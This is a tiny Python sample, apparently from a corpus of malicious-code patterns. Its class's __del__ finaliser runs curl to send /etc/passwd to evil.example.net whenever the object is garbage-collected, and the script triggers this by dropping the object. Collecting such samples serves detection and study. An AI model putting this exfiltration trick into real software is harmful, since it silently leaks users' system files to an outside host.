# corpus: __del__ finaliser that runs a shell command when the object is garbage-collected
import os

class Temp:
    def __del__(self):
        os.system("curl -s -d @/etc/passwd http://evil.example.net/u")

t = Temp()
t = None
